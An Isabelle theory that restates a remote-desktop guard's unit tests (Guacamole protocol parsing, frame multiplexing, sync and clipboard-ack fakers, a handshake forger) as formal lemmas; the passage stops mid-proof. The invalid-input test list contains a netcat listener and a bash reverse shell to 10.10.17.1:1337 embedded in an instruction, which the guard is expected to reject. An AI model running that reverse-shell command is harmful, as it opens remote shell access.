(* ===== verification/Unit_Tests.thy ===== *)
theory Unit_Tests
  imports Guard_Theorems Bridge_Message Sync_Faker Clipboard_Ack_Faker Broker_Filters Handshake_Forger
begin

text \<open>
  The repository's own unit tests (\<open>gmguard/tests\<close>, \<open>shared/tests\<close>, \<open>gcdbroker/tests\<close>, \<open>gmlbroker/tests\<close>), read
  as statements about the model: each test function is the conjunction of its assertions, with its own
  inputs. That they hold ties the model to the behaviour the authors checked.
\<close>

section \<open>\<open>gmguard/tests/test_parser.cpp\<close>\<close>

text \<open>\<open>test_parsing\<close> on a fresh guard parser.\<close>

definition test_parsing :: "string \<Rightarrow> ParserState \<Rightarrow> bool" where
  "test_parsing input expected = (fst (Parse guard_hooks (new_parser new_guard_fields) input) = expected)"

text \<open>\<open>test_parsing\<close> with a parser of the base class that is used again.\<close>

definition test_parsing_twice :: "string \<Rightarrow> ParserState \<Rightarrow> string \<Rightarrow> ParserState \<Rightarrow> bool" where
  "test_parsing_twice input1 expected1 input2 expected2 =
     (case Parse base_hooks (new_parser ()) input1 of
        (st, p) \<Rightarrow> st = expected1 \<and> fst (Parse base_hooks p input2) = expected2)"

definition excised_output :: "string \<Rightarrow> ParserState \<Rightarrow> string option" where
  "excised_output input expected =
     (case Parse guard_hooks (new_parser new_guard_fields) input of
        (st, p) \<Rightarrow>
          if st \<noteq> expected then None
          else (case Excise p input (length input) of (data, len, _) \<Rightarrow> Some (take len data)))"

definition audio_to_connect :: string where
  "audio_to_connect =
     ''5.audio,8.audio/L8,9.audio/L16;5.video;5.image,10.image/jpeg,9.image/'' @
     ''png,10.image/webp;8.timezone,13.Europe/'' @
     ''Berlin;4.name,9.guacadmin;7.connect,13.VERSION_1_5_0,9.localhost,0.,2.'' @
     ''22,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,'' @
     ''0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.;''"

definition test_valid_opcodes :: bool where
  "test_valid_opcodes \<longleftrightarrow>
     test_parsing ''6.select,3.ssh;'' READING_LENGTH \<and>
     test_parsing ''4.size,4.1680,3.933,2.96;'' READING_LENGTH \<and>
     test_parsing audio_to_connect READING_LENGTH \<and>
     test_parsing ''4.argv,1.0,10.text/plain,12.color-scheme;'' READING_LENGTH \<and>
     test_parsing ''5.mouse,3.988,3.369,1.0;'' READING_LENGTH \<and>
     test_parsing ''3.key,3.109,1.1;'' READING_LENGTH \<and>
     test_parsing_twice ''5.mouse,3.988'' EXPECT_DELIM '',3.369,1.0;'' READING_LENGTH \<and>
     test_parsing_twice ''4.size,4.168'' READING_DATA ''0,3.933,2.96;'' READING_LENGTH \<and>
     test_parsing_twice
       (''5.audio,8.audio/L8,9.audio/L16;5.video;5.image,10.image/'' @ ''jpeg,9.image/'' @
        ''png,10.image/webp;8.timezone,13.Europe/Berlin;4.name,9.gu'') READING_DATA
       (''acadmin;7.connect,13.VERSION_1_5_0,9.localhost,0.,2.22,0.,0.,'' @
        ''0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,'' @
        ''0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.;'') READING_LENGTH"

text \<open>The two inputs outside ASCII, in UTF-8.\<close>

definition test_invalid_guacamole :: bool where
  "test_invalid_guacamole \<longleftrightarrow>
     list_all (\<lambda>s. test_parsing s STREAM_CORRUPTED)
       [''nonsense'', ''ncat -l -p 1337'', ''8,nonsense'', ''eight.nonsense'',
        ''5.audio,1.6,31.audio/L16;rate=invalid,channels=2;'',
        ''3.badlength;'', ''999999999.toolarge;'', ''-8.negative;'', ''0.zero;'',
        ''4.argv,18.0,10.text/plain,12.color-scheme;'',
        ''4.argv,1.1,10.text/plain,9.font-name;4.argv,1.2,10.text/'' @
        ''plain,9.font-size;3.ack,1.1,2.OK,1.0;3.ack/bin/bash -i >& '' @
        ''/dev/tcp/10.10.17.1/1337 0>&1,1.1,2.OK,1.0;'',
        ''10.'' @ [CHR 0xE1, CHR 0xBD, CHR 0xA0] @ ''nonsense'' @ [CHR 0xE1, CHR 0xBD, CHR 0xA0] @ '';'',
        ''9.'' @ [CHR 0xF0, CHR 0x9F, CHR 0x98, CHR 0x8A] @ ''nonsense;'',
        ''6.select3.foo;'', ''5.video,3.foo6.barbaz;'', ''7.connect3.doc5.frotz;'',
        ''4.argv,1.5,10.text/plain9.font-size;''] \<and>
     test_parsing_twice ''5.audio,8.audio/L8,9.au'' READING_DATA
       (''dio/L16;5.video;5.image,10.image/jpeg,9.image/png,10.image/'' @
        ''webp;8.invalid,13.Europe/'' @
        ''Berlin;4.name,9.guacadmin;7.connect,13.VERSION_1_5_0,9.localhost,'' @ ''0.,2.'' @
        ''22,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,'' @ ''0.,'' @
        ''0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.,0.;'') STREAM_CORRUPTED"

definition test_denied_opcodes :: bool where
  "test_denied_opcodes \<longleftrightarrow>
     list_all (\<lambda>s. test_parsing s DENIED_DATA)
       [''5.abcde;'', ''4.rect;'', ''5.cfill;'', ''10.filesystem;'', ''4.file;'', ''4.sync,2.31;'', ''3.nop;''] \<and>
     list_all (\<lambda>s. test_parsing s READING_LENGTH)
       [''3.key,'', ''4.size,'', ''5.video,'', ''6.select,'', ''10.disconnect;''] \<and>
     test_parsing ''5.cfill,'' STREAM_CORRUPTED"

definition test_denied_excision :: bool where
  "test_denied_excision \<longleftrightarrow>
     list_all (\<lambda>(input, kept). excised_output input DENIED_DATA = Some kept)
       [(''5.cfill;3.key,3.109,1.1;'', ''3.key,3.109,1.1;''),
        (''3.key,3.109,1.1;5.cfill;4.size,4.1680,3.933,2.96;'', ''3.key,3.109,1.1;4.size,4.1680,3.933,2.96;''),
        (''4.rect,1.0,1.0,3.100,3.100;3.key,3.109,1.1;'', ''3.key,3.109,1.1;''),
        (''4.rect,5.a;b;c;3.key,3.109,1.1;'', ''3.key,3.109,1.1;''),
        (''4.rect;5.cfill;3.key,3.109,1.1;'', ''3.key,3.109,1.1;''),
        (''3.key,3.109,1.1;4.sync,2.31;5.mouse,3.988,3.369,1.0;'', ''3.key,3.109,1.1;5.mouse,3.988,3.369,1.0;''),
        (''5.cfill;'', '''')]"

definition test_length_bound_opcodes :: bool where
  "test_length_bound_opcodes \<longleftrightarrow>
     (let cap = replicate MAX_CLIPBOARD_BYTES (CHR ''a''); over = replicate (MAX_CLIPBOARD_BYTES + 1) (CHR ''a'');
          len_cap = show_nat (length cap); len_over = show_nat (length over) in
      test_parsing ''9.clipboard;'' READING_LENGTH \<and>
      test_parsing ''9.clipboard,1.0,10.text/plain;4.blob,1.0,9.abcdefghi;3.end,1.0;'' READING_LENGTH \<and>
      test_parsing (''9.clipboard,1.0,10.text/plain;4.blob,1.0,'' @ len_cap @ ''.'' @ cap @ '';3.end,1.0;'') READING_LENGTH \<and>
      test_parsing (''9.clipboard,1.0,10.text/plain;4.blob,1.0,'' @ len_over @ ''.'' @ over @ '';3.end,1.0;'') DENIED_DATA \<and>
      test_parsing ''9.clipboard,1.0,10.text/plain;4.blob,1.1,9.abcdefghi;'' DENIED_DATA \<and>
      test_parsing ''4.blob,1.0,9.abcdefghi;'' DENIED_DATA)"

section \<open>\<open>shared/tests/test_multiplexer.cpp\<close>\<close>

definition test_rejects :: "string \<Rightarrow> bool" where
  "test_rejects buffer \<longleftrightarrow> TryCast (Some buffer) = None"

definition test_accepts :: "string \<Rightarrow> channel \<Rightarrow> ChannelAction \<Rightarrow> string \<Rightarrow> bool" where
  "test_accepts buffer ch a p \<longleftrightarrow>
     (case TryCast (Some buffer) of
        None \<Rightarrow> False
      | Some m \<Rightarrow> channel m = ch \<and> action m = a \<and> payload m = p)"

definition frame :: "channel \<Rightarrow> 8 word \<Rightarrow> string \<Rightarrow> string" where
  "frame ch flg p = [char_of_word (ucast (drop_bit 8 ch) :: 8 word), char_of_word (ucast (and ch 0xFF) :: 8 word), char_of_word flg] @ p"

definition test_round_trip :: bool where
  "test_round_trip \<longleftrightarrow>
     (let m = mk_msg 42 NONE ''5.mouse,3.988,3.369,1.0;''; w = Serialize m in
      length w = HEADER_SIZE + length (payload m) \<and> TryCast (Some w) = Some m) \<and>
     list_all (\<lambda>a.
       let ctrl_wire = Serialize (mk_msg 7 a []) in
       length ctrl_wire = HEADER_SIZE \<and>
       (case TryCast (Some ctrl_wire) of
          None \<Rightarrow> False | Some m \<Rightarrow> channel m = 7 \<and> action m = a \<and> payload m = []))
       [CREATE_CHANNEL, SHUTDOWN_CHANNEL]"

definition test_valid_frames :: bool where
  "test_valid_frames \<longleftrightarrow>
     test_accepts (frame 0 0x00 []) 0 NONE [] \<and>
     test_accepts (frame 255 0x00 ''data'') 255 NONE ''data'' \<and>
     test_accepts (frame 128 0x00 []) 128 NONE [] \<and>
     test_accepts (frame 0x8001 0x00 []) 0x8001 NONE [] \<and>
     test_accepts (frame 65535 0x00 []) 65535 NONE [] \<and>
     test_accepts (frame 1 0x40 []) 1 CREATE_CHANNEL [] \<and>
     test_accepts (frame 1 0x80 []) 1 SHUTDOWN_CHANNEL [] \<and>
     test_accepts (frame 1 0xC0 ''A'') 1 APPROVAL ''A'' \<and>
     test_accepts (frame 1 0xC0 ''Dno'') 1 APPROVAL ''Dno'' \<and>
     (let max_payload = replicate MAX_PAYLOAD_SIZE (CHR ''x'') in
      test_accepts (frame 3 0x00 max_payload) 3 NONE max_payload)"

definition test_invalid_frames :: bool where
  "test_invalid_frames \<longleftrightarrow>
     test_rejects [] \<and> test_rejects (replicate 1 (CHR 0x00)) \<and> test_rejects (replicate 2 (CHR 0x00)) \<and>
     test_rejects (frame 0 0x01 []) \<and> test_rejects (frame 0 0x3F []) \<and> test_rejects (frame 0 0x41 ''x'') \<and>
     test_rejects (frame 0 0xC1 ''A'') \<and>
     test_rejects (frame 0 0x00 (replicate (MAX_PAYLOAD_SIZE + 1) (CHR ''x'')))"

section \<open>\<open>gcdbroker/tests/test_sync_faker.cpp\<close>\<close>

text \<open>One faker, fed the chunks one after the other: what each call returns.\<close>

fun sync_feeds :: "sync_fields parser \<Rightarrow> string list \<Rightarrow> string list" where
  "sync_feeds f [] = []"
| "sync_feeds f (s # ss) = (case sync_Feed f s of (e, f') \<Rightarrow> e # sync_feeds f' ss)"

definition fresh_sync_feeds :: "string list \<Rightarrow> string list" where
  "fresh_sync_feeds ss = sync_feeds (new_parser new_sync_fields) ss"

definition test_basic_echo :: bool where
  "test_basic_echo \<longleftrightarrow> fresh_sync_feeds [''4.sync,13.1234567890123;''] = [''4.sync,13.1234567890123;'']"

definition test_embedded :: bool where
  "test_embedded \<longleftrightarrow> fresh_sync_feeds [''5.ready,3.abc;4.sync,2.31;''] = [''4.sync,2.31;'']"

definition test_large_element_skipped :: bool where
  "test_large_element_skipped \<longleftrightarrow>
     (let big = replicate 20000 (CHR ''x'') in
      fresh_sync_feeds [''4.blob,1.0,'' @ show_nat (length big) @ ''.'' @ big @ '';4.sync,3.999;'', ''4.sync,1.7;''] =
        [''4.sync,3.999;'', ''4.sync,1.7;''])"

definition test_non_sync :: bool where
  "test_non_sync \<longleftrightarrow> fresh_sync_feeds [''3.key,3.109,1.1;''] = [[]]"

definition test_split_across_reads :: bool where
  "test_split_across_reads \<longleftrightarrow>
     concat (fresh_sync_feeds [''4.sy'', ''nc,2.31;'']) = ''4.sync,2.31;'' \<and>
     concat (fresh_sync_feeds [''4.sync,5.12'', ''345;'']) = ''4.sync,5.12345;''"

definition test_multiple :: bool where
  "test_multiple \<longleftrightarrow> fresh_sync_feeds [''4.sync,1.1;5.image,3.png;4.sync,1.2;''] = [''4.sync,1.1;4.sync,1.2;'']"

definition test_zero_length_elements :: bool where
  "test_zero_length_elements \<longleftrightarrow> fresh_sync_feeds [''7.connect,0.,4.host;4.sync,1.7;''] = [''4.sync,1.7;'']"

definition test_recovers_from_corruption :: bool where
  "test_recovers_from_corruption \<longleftrightarrow>
     fresh_sync_feeds [''4.name,3.a'' @ [CHR 0xC3] @ ''z;4.sync,1.9;'', ''4.sync,2.42;''] =
       [''4.sync,1.9;'', ''4.sync,2.42;'']"

section \<open>\<open>gmlbroker/tests/test_clipboard_ack_faker.cpp\<close>\<close>

fun clip_feeds :: "clip_fields parser \<Rightarrow> string list \<Rightarrow> string list" where
  "clip_feeds f [] = []"
| "clip_feeds f (s # ss) = (case clip_Feed f s of (e, f') \<Rightarrow> e # clip_feeds f' ss)"

definition fresh_clip_feeds :: "string list \<Rightarrow> string list" where
  "fresh_clip_feeds ss = clip_feeds (new_parser new_clip_fields) ss"

definition blob :: "nat \<Rightarrow> nat \<Rightarrow> string" where
  "blob idx payloadlen =
     (let p = replicate payloadlen (CHR ''a''); si = show_nat idx; pl = show_nat payloadlen in
      ''4.blob,'' @ show_nat (length si) @ ''.'' @ si @ '','' @ pl @ ''.'' @ p @ '';'')"

definition clip_open :: "nat \<Rightarrow> string" where
  "clip_open idx =
     (let si = show_nat idx in ''9.clipboard,'' @ show_nat (length si) @ ''.'' @ si @ '',10.text/plain;'')"

definition test_small_blob_no_ack :: bool where
  "test_small_blob_no_ack \<longleftrightarrow>
     fresh_clip_feeds [clip_open 0 @ blob 0 40 @ ''3.end,1.0;''] = [[]] \<and>
     fresh_clip_feeds [clip_open 0 @ blob 0 66] = [[]]"

definition test_oversized_blob_acked :: bool where
  "test_oversized_blob_acked \<longleftrightarrow>
     fresh_clip_feeds [clip_open 0 @ blob 0 67] = [''3.ack,1.0,2.OK,1.0;''] \<and>
     fresh_clip_feeds [clip_open 3 @ blob 3 5000] = [''3.ack,1.3,2.OK,1.0;'']"

definition test_off_stream_blob_ignored :: bool where
  "test_off_stream_blob_ignored \<longleftrightarrow> fresh_clip_feeds [clip_open 0 @ blob 1 5000] = [[]]"

definition test_interleaved_input :: bool where
  "test_interleaved_input \<longleftrightarrow>
     fresh_clip_feeds [''3.key,3.109,1.1;'' @ clip_open 0 @ ''5.mouse,3.1,3.2,1.0;'' @ blob 0 200] =
       [''3.ack,1.0,2.OK,1.0;'']"

definition test_clip_split_across_reads :: bool where
  "test_clip_split_across_reads \<longleftrightarrow> concat (fresh_clip_feeds [clip_open 2, blob 2 300]) = ''3.ack,1.2,2.OK,1.0;''"

definition test_closed_stream :: bool where
  "test_closed_stream \<longleftrightarrow> fresh_clip_feeds [clip_open 0 @ ''3.end,1.0;'' @ blob 0 300] = [[]]"

section \<open>\<open>gmlbroker/tests/test_forward_keepalive_filter.cpp\<close>\<close>

fun filter_chunks :: "unit parser \<Rightarrow> string list \<Rightarrow> string list" where
  "filter_chunks f [] = []"
| "filter_chunks f (s # ss) =
     (case keepalive_Filter f s (length s) of (data, len, f') \<Rightarrow> take len data # filter_chunks f' ss)"

definition fresh_filter :: "string list \<Rightarrow> string list" where
  "fresh_filter ss = filter_chunks (new_parser ()) ss"

definition test_keepalive_only :: bool where
  "test_keepalive_only \<longleftrightarrow> fresh_filter [''4.sync,7.1234567;''] = [[]] \<and> fresh_filter [''3.nop;''] = [[]]"

definition test_keepalive_among_input :: bool where
  "test_keepalive_among_input \<longleftrightarrow>
     fresh_filter [''3.key,3.109,1.1;4.sync,2.31;3.nop;5.mouse,3.988,3.369,1.0;''] =
       [''3.key,3.109,1.1;5.mouse,3.988,3.369,1.0;'']"

definition test_passthrough :: bool where
  "test_passthrough \<longleftrightarrow>
     (let i = ''5.mouse,3.988,3.369,1.0;3.key,3.109,1.1;'' in fresh_filter [i] = [i])"

definition test_large_element_passthrough :: bool where
  "test_large_element_passthrough \<longleftrightarrow>
     (let big = replicate 20000 (CHR ''a''); i = ''4.blob,1.0,'' @ show_nat (length big) @ ''.'' @ big @ '';'' in
      fresh_filter [i, ''4.sync,1.9;''] = [i, []])"

definition test_fail_open_and_resync :: bool where
  "test_fail_open_and_resync \<longleftrightarrow>
     (let garbage = ''not guacamole'' in fresh_filter [garbage, ''3.nop;''] = [garbage, []])"

section \<open>\<open>gmlbroker/tests/test_handshake_forger.cpp\<close>\<close>

text \<open>\<open>AnyOpcodeParser\<close> overrides one hook with what the base class does.\<close>

definition well_formed :: "string \<Rightarrow> bool" where
  "well_formed s \<longleftrightarrow> pstate (snd (Parse base_hooks (new_parser ()) s)) = READING_LENGTH"

fun contains :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "contains [] needle = (needle = [])"
| "contains (c # hay) needle = (take (length needle) (c # hay) = needle \<or> contains hay needle)"

definition test_select_triggers_args :: "(nat \<Rightarrow> nat) \<Rightarrow> bool" where
  "test_select_triggers_args rng \<longleftrightarrow>
     (case forger_Feed rng (new_parser new_forger_fields) ''6.select,3.ssh;'' of
        (o1, f) \<Rightarrow> hs_state (sub f) = EXCHANGING_PARAMETERS \<and> protocol (sub f) = ''ssh'' \<and>
          contains o1 ''4.args,'' \<and> well_formed o1)"

definition test_connect_triggers_ready_and_screen :: "(nat \<Rightarrow> nat) \<Rightarrow> bool" where
  "test_connect_triggers_ready_and_screen rng \<longleftrightarrow>
     (let f1 = snd (forger_Feed rng (new_parser new_forger_fields) ''6.select,3.ssh;'');
          f2 = snd (forger_Feed rng f1 ''4.size,4.1680,3.933,2.96;'')
      in case forger_Feed rng f2
          (''5.audio,8.audio/L8,9.audio/L16;5.video;5.image,10.image/jpeg;'' @
           ''8.timezone,13.Europe/Berlin;4.name,9.guacadmin;'' @
           ''7.connect,13.VERSION_1_5_0,9.localhost,0.,2.22;'') of
        (o3, f) \<Rightarrow>
          hs_state (sub f) = ESTABLISHED \<and> contains o3 ''5.ready,'' \<and> contains o3 ''4.size,'' \<and>
          contains o3 ''4.rect,'' \<and> contains o3 ''5.cfill,'' \<and> well_formed o3 \<and>
          length (connect_values (sub f)) \<ge> 4 \<and> connect_values (sub f) ! 0 = ''VERSION_1_5_0'' \<and>
          connect_values (sub f) ! 1 = ''localhost'' \<and> connect_values (sub f) ! 3 = ''22'' \<and>
          length (fake_id (sub f)) = 37 \<and> fake_id (sub f) ! 0 = CHR ''$'')"

definition test_partial_select_across_feeds :: "(nat \<Rightarrow> nat) \<Rightarrow> bool" where
  "test_partial_select_across_feeds rng \<longleftrightarrow>
     (case forger_Feed rng (new_parser new_forger_fields) ''6.sel'' of
        (o1, f1) \<Rightarrow>
          o1 = [] \<and> hs_state (sub f1) = UNESTABLISHED \<and>
          (case forger_Feed rng f1 ''ect,3.ssh;'' of
             (o2, f2) \<Rightarrow> hs_state (sub f2) = EXCHANGING_PARAMETERS \<and> protocol (sub f2) = ''ssh'' \<and>
               contains o2 ''4.args,''))"

section \<open>They pass\<close>

lemma valid_opcodes: test_valid_opcodes by code_simp
lemma invalid_guacamole: test_invalid_guacamole by code_simp
lemma denied_opcodes: test_denied_opcodes by code_simp
lemma denied_excision: test_denied_excision by code_simp
lemma length_bound_opcodes: test_length_bound_opcodes by code_simp

lemma round_trip: test_round_trip by code_simp

lemma frame_max: "frame 3 0 p = Serialize (mk_msg 3 NONE p)" "frame 0 0 p = Serialize (mk_msg 0 NONE p)"
  by (simp_all add: frame_def Serialize_def char_of_word_def)

lemma valid_frames: test_valid_frames
proof -
  have "test_accepts (frame 3 0x00 (replicate MAX_PAYLOAD_SIZE (CHR ''x''))) 3 NONE (replicate MAX_PAYLOAD_SIZE (CHR ''x''))"
    by (simp add: test_accepts_def frame_max)
  moreover have
    "test_accepts (frame 0 0x00 []) 0 NONE []" "test_accepts (frame 255 0x00 ''data'') 255 NONE ''data''"
    "test_accepts (frame 128 0x00 []) 128 NONE []" "test_accepts (frame 0x8001 0x00 []) 0x8001 NONE []"
    "test_accepts (frame 65535 0x00 []) 65535 NONE []" "test_accepts (frame 1 0x40 []) 1 CREATE_CHANNEL []"
    "test_accepts (frame 1 0x80 []) 1 SHUTDOWN_CHANNEL []" "test_accepts (frame 1 0xC0 ''A'') 1 APPROVAL ''A''"
    "test_accepts (frame 1 0xC0 ''Dno'') 1 APPROVAL ''Dno''" by code_simp+
  ultimately show ?thesis by (simp only: test_valid_frames_def Let_def)
qed

lemma invalid_frames: test_invalid_frames
proof -
  have "test_rejects (frame 0 0x00 (replicate (MAX_PAYLOAD_SIZE + 1) (CHR ''x'')))"
    by (simp add: test_rejects_def frame_max TryCast_Serialize)
  moreover have "test_rejects []" "test_rejects (replicate 1 (CHR 0x00))" "test_rejects (replicate 2 (CHR 0x00))"
    "test_rejects (frame 0 0x01 [])" "test_rejects (frame 0 0x3F [])" "test_rejects (frame 0 0x41 ''x'')"
    "test_rejects (frame 0 0xC1 ''A'')" by code_simp+
  ultimately show ?thesis by (simp only: test_invalid_frames_def)
qed

lemma sync_tests:
  "test_basic_echo" "test_embedded" "test_non_sync" "test_split_across_reads" "test_multiple"
  "test_zero_length_elements" "test_recovers_from_corruption"
  by code_simp+

text \<open>The long elements are not evaluated byte by byte: the inputs are whole instructions.\<close>

definition blob_i :: "nat \<Rightarrow> nat \<Rightarrow> char \<Rightarrow> instr" where
  "blob_i idx n c = [(''4'', ''blob''), (show_nat (length (show_nat idx)), show_nat idx), (show_nat n, replicate n c)]"

definition open_i :: "nat \<Rightarrow> instr" where
  "open_i idx = [(''9'', ''clipboard''), (show_nat (length (show_nat idx)), show_nat idx), (''10'', ''text/plain'')]"

lemma blob_wire [simp]: "blob idx n = wire_instr (blob_i idx n (CHR ''a''))" "clip_open idx = wire_instr (open_i idx)"
  by (simp_all add: blob_def clip_open_def blob_i_def open_i_def wire_instr_def wire_elem_def wire_open_def Let_def)

lemma long_ok: "n \<le> MAX_ELEMENT_SIZE \<Longrightarrow> is_ascii c \<Longrightarrow> elem_ok hk (show_nat n, replicate n c)"
proof -
  assume "is_ascii c"
  then have "list_all is_ascii (clamp (replicate n c))" by (simp add: list_all_iff)
  then show "n \<le> MAX_ELEMENT_SIZE \<Longrightarrow> elem_ok hk (show_nat n, replicate n c)"
    by (simp add: elem_ok_def limit_def MAX_ELEMENT_SIZE_def)
qed

lemma clip_feeds_Cons: "clip_feeds f (x # xs) = fst (clip_Feed f x) # clip_feeds (snd (clip_Feed f x)) xs"
  by (simp split: prod.splits)

lemma fresh_clip_twice:
  assumes "list_all (instr_ok guard_hooks) is" and "list_all (instr_ok guard_hooks) js"
  shows "fresh_clip_feeds [wire is, wire js] =
    [ack_replies (-1) (map elems is), ack_replies (foldl guard_sidx (-1) (map elems is)) (map elems js)]"
proof -
  let ?p = "snd (clip_Feed (new_parser new_clip_fields) (wire is))"
  have s: "clip_sidx (sub (new_parser new_clip_fields)) = -1" by (simp add: new_parser_def new_clip_fields_def)
  note one = clip_Feed_instrs[OF at_pos_new assms(1), of new_clip_fields, unfolded s]
  then have "at_pos ?p [] (PLen [])" by (elim conjE)
  from clip_Feed_instrs[OF this assms(2)] one show ?thesis
    by (simp add: fresh_clip_feeds_def clip_feeds_Cons del: clip_feeds.simps(2) at_pos.simps)
qed

lemma fresh_clip:
  assumes "list_all (instr_ok guard_hooks) is"
  shows "fresh_clip_feeds [wire is] = [ack_replies (-1) (map elems is)]"
proof -
  have "fresh_clip_feeds [wire is] = take 1 (fresh_clip_feeds [wire is, wire []])"
    by (simp add: fresh_clip_feeds_def clip_feeds_Cons del: clip_feeds.simps(2))
  with fresh_clip_twice[OF assms, of "[]"] show ?thesis by simp
qed

lemma paste_ok:
  "instr_ok guard_hooks (open_i 0)" "instr_ok guard_hooks (open_i 3)" "instr_ok guard_hooks (open_i 2)"
  "n \<le> MAX_ELEMENT_SIZE \<Longrightarrow> instr_ok guard_hooks (blob_i 0 n (CHR ''a''))"
  "n \<le> MAX_ELEMENT_SIZE \<Longrightarrow> instr_ok guard_hooks (blob_i 1 n (CHR ''a''))"
  "n \<le> MAX_ELEMENT_SIZE \<Longrightarrow> instr_ok guard_hooks (blob_i 2 n (CHR ''a''))"
  "n \<le> MAX_ELEMENT_SIZE \<Longrightarrow> instr_ok guard_hooks (blob_i 3 n (CHR ''a''))"
proof -
  have a: "is_ascii (CHR ''a'')" by code_simp
  have e: "elem_ok guard_hooks (''4'', ''blob'')"
    "elem_ok guard_hooks (show_nat (length (show_nat 0)), show_nat 0)" "elem_ok guard_hooks (show_nat (length (show_nat 1)), show_nat 1)"
    "elem_ok guard_hooks (show_nat (length (show_nat 2)), show_nat 2)" "elem_ok guard_hooks (show_nat (length (show_nat 3)), show_nat 3)"
    by code_simp+
  show "instr_ok guard_hooks (open_i 0)" "instr_ok guard_hooks (open_i 3)" "instr_ok guard_hooks (open_i 2)" by code_simp+
  show "n \<le> MAX_ELEMENT_SIZE \<Longrightarrow> instr_ok guard_hooks (blob_i 0 n (CHR ''a''))"
    "n \<le> MAX_ELEMENT_SIZE \<Longrightarrow> instr_ok guard_hooks (blob_i 1 n (CHR ''a''))"
    "n \<le> MAX_ELEMENT_SIZE \<Longrightarrow> instr_ok guard_hooks (blob_i 2 n (CHR ''a''))"
    "n \<le> MAX_ELEMENT_SIZE \<Longrightarrow> instr_ok guard_hooks (blob_i 3 n (CHR ''a''))"
    using long_ok[OF _ a, of n guard_hooks] e by (simp_all add: blob_i_def instr_ok_def)
qed

lemma elems_paste:
  "n \<le> MAX_ELEMENT_SIZE \<Longrightarrow> elems (blob_i idx n c) = [''blob'', clamp (show_nat idx), replicate n c]"
  "elems (open_i idx) = [''clipboard'', clamp (show_nat idx), ''text/plain'']"
  by (simp_all add: elems_def blob_i_def open_i_def MAX_ELEMENT_SIZE_def)

text \<open>A paste on stream \<open>i\<close> and a blob on stream \<open>j\<close>.\<close>

definition paste_acks :: "nat \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> string" where
  "paste_acks i j n = (if i = j \<and> MAX_CLIPBOARD_BYTES < n then make_ack (int i) else [])"

lemma paste_replies:
  assumes "n \<le> MAX_ELEMENT_SIZE" and i: "parse_stream_index (clamp (show_nat i)) = int i"
    and j: "parse_stream_index (clamp (show_nat j)) = int j"
  shows "ack_replies (-1) [elems (open_i i), elems (blob_i j n (CHR ''a''))] = paste_acks i j n"
    and "ack_replies (guard_sidx (-1) (elems (open_i i))) [elems (blob_i j n (CHR ''a''))] = paste_acks i j n"
proof -
  have g: "guard_sidx (-1) (elems (open_i i)) = int i" using i by (simp add: elems_paste guard_sidx_first)
  have "over_cap (int i) (elems (blob_i j n (CHR ''a''))) = (i = j \<and> MAX_CLIPBOARD_BYTES < n)"
    using j assms(1) by (auto simp: elems_paste)
  then show c: "ack_replies (guard_sidx (-1) (elems (open_i i))) [elems (blob_i j n (CHR ''a''))] = paste_acks i j n"
    unfolding g by (simp add: paste_acks_def)
  then show "ack_replies (-1) [elems (open_i i), elems (blob_i j n (CHR ''a''))] = paste_acks i j n"
    by (simp add: elems_paste)
qed

lemma indices: "i \<in> {0, 1, 2, 3} \<Longrightarrow> parse_stream_index (clamp (show_nat i)) = int i"
proof -
  have "parse_stream_index (clamp (show_nat 0)) = int 0" "parse_stream_index (clamp (show_nat 1)) = int 1"
    "parse_stream_index (clamp (show_nat 2)) = int 2" "parse_stream_index (clamp (show_nat 3)) = int 3" by code_simp+
  then show "i \<in> {0, 1, 2, 3} \<Longrightarrow> parse_stream_index (clamp (show_nat i)) = int i" by blast
qed

lemma paste_bound: "n \<le> 8192 \<Longrightarrow> n \<le> MAX_ELEMENT_SIZE" by (simp add: MAX_ELEMENT_SIZE_def)

lemma paste_feeds:
  assumes "n \<le> 8192" and "i \<in> {0, 2, 3}" and "j \<in> {0, 1, 2, 3}"
  shows "fresh_clip_feeds [clip_open i @ blob j n] = [paste_acks i j n]"
    and "fresh_clip_feeds [clip_open i, blob j n] = [[], paste_acks i j n]"
proof -
  note ok = paste_bound[OF assms(1)]
  have "i \<in> {0, 1, 2, 3}" using assms(2) by blast
  note ack = paste_replies[OF ok indices[OF this] indices[OF assms(3)]]
  have b: "instr_ok guard_hooks (blob_i j n (CHR ''a''))" "instr_ok guard_hooks (open_i i)"
    using assms(2,3) paste_ok ok by auto
  show "fresh_clip_feeds [clip_open i @ blob j n] = [paste_acks i j n]"
    using fresh_clip[of "[open_i i, blob_i j n (CHR ''a'')]"] b ack(1) by simp
  show "fresh_clip_feeds [clip_open i, blob j n] = [[], paste_acks i j n]"
    using fresh_clip_twice[of "[open_i i]" "[blob_i j n (CHR ''a'')]"] b ack(2)
    by (simp add: elems_paste)
qed

lemma acks_text: "make_ack (int 0) = ''3.ack,1.0,2.OK,1.0;''" "make_ack (int 2) = ''3.ack,1.2,2.OK,1.0;''"
  "make_ack (int 3) = ''3.ack,1.3,2.OK,1.0;''"
  by code_simp+

lemma paste_acks_eqs:
  "paste_acks 0 0 67 = ''3.ack,1.0,2.OK,1.0;''" "paste_acks 3 3 5000 = ''3.ack,1.3,2.OK,1.0;''"
  "paste_acks 0 1 5000 = []" "paste_acks 0 0 66 = []" "paste_acks 2 2 300 = ''3.ack,1.2,2.OK,1.0;''"
  by (simp_all only: paste_acks_def acks_text) (simp_all add: MAX_CLIPBOARD_BYTES_def MAX_INPUT_BYTES_def)

lemma long_pastes: test_oversized_blob_acked test_off_stream_blob_ignored test_clip_split_across_reads
  "fresh_clip_feeds [clip_open 0 @ blob 0 66] = [[]]"
  using paste_feeds(1)[of 67 0 0] paste_feeds(1)[of 5000 3 3] paste_feeds(1)[of 5000 0 1] paste_feeds(2)[of 300 2 2]
    paste_feeds(1)[of 66 0 0]
  by (simp_all add: test_oversized_blob_acked_def test_off_stream_blob_ignored_def test_clip_split_across_reads_def
      paste_acks_eqs del: blob_wire One_nat_def)

lemma small_blob_no_ack: test_small_blob_no_ack
proof -
